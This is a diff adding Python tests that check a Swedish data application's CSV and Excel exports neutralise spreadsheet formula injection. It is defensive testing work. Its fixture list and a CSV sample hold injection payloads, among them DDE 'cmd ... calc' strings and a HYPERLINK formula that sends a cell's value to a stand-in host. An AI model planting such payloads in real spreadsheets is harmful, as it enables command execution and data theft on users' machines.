@@ -226,3 +226,56 @@ def test_zip_member_paths_outside_the_archive_are_refused(empty_engine, name, me
     assert problem.message == ("Zip-filen innehåller en fil med en otillåten sökväg (absolut sökväg eller "
                                "'..'); den öppnas inte. Packa filerna igen utan mappar runt dem.")
     assert refused_log(empty_engine) == [(kind, "refused")]
+
+
+# --- formulas in downloads ----------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1;"Klicka")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _sheet_cells(data: bytes) -> list:
+    from openpyxl import load_workbook
+    book = load_workbook(io.BytesIO(data))
+    return [cell for row in book.active.iter_rows() for cell in row]
+
+
+def test_exports_neutralise_formulas_and_keep_numbers():
+    import pandas as pd
+
+    from lagesbild.exports import neutralise_formulas
+    from lagesbild.queries.explore import to_csv_bytes, to_excel_bytes
+    frame = pd.DataFrame({"Text": FORMULAS + ["-3", "Trasig lampa", "<5"],
+                          "Antal": [1, -2, 3, 4, 5, 6, 7, 8, 9]})
+    safe = neutralise_formulas(frame)
+    assert list(safe["Text"]) == ["'" + f for f in FORMULAS] + ["-3", "Trasig lampa", "<5"]
+    assert list(safe["Antal"]) == [1, -2, 3, 4, 5, 6, 7, 8, 9]
+    raw = _sheet_cells(to_excel_bytes(frame))
+    assert any(c.data_type == "f" for c in raw)  # what the Excel writer does with raw text
+    cells = _sheet_cells(to_excel_bytes(safe))
+    assert [c.data_type for c in cells if c.data_type == "f"] == []
+    assert [c.value for c in cells if c.column == 2][1:] == [1, -2, 3, 4, 5, 6, 7, 8, 9]
+    text = to_csv_bytes(safe).decode("utf-8-sig")
+    assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for line in text.splitlines()
+                   for cell in line.split(";"))
+
+
+def test_walk_descriptions_with_formulas_are_stored_as_text_and_shown_neutralised(empty_engine):
+    import datetime as dt
+
+    from lagesbild import presenters
+    from lagesbild.queries.filters import Filters
+    from lagesbild.queries.explore import to_excel_bytes
+    from lagesbild.queries.walks import action_list
+    from tests.test_loaders_support import csv_bytes
+    head = "Datum;Område;Nr;Kategori;Beskrivning;Förslag till åtgärd;Ansvarig;Prioritet;Klart senast;Status"
+    body = ["2024-03-12;Fittja;1;Belysning;\"=HYPERLINK(\"\"http://example.invalid\"\")\";@SUM(1);Kommunen;Hög;"
+            "2024-04-12;Ny"]
+    run(empty_engine, "walks", "tv.csv", csv_bytes([head] + body))
+    with empty_engine.connect() as conn:
+        actions = action_list(conn, Filters(dt.date(2024, 1, 1), dt.date(2024, 12, 31)), dt.date(2024, 6, 1),
+                              "overdue")
+    table = presenters.walk_actions_table(actions)
+    assert list(table["Iakttagelse"]) == ["'=HYPERLINK(\"http://example.invalid\")"]
+    assert list(table["Föreslagen åtgärd"]) == ["'@SUM(1)"]
+    assert [c for c in _sheet_cells(to_excel_bytes(table)) if c.data_type == "f"] == []
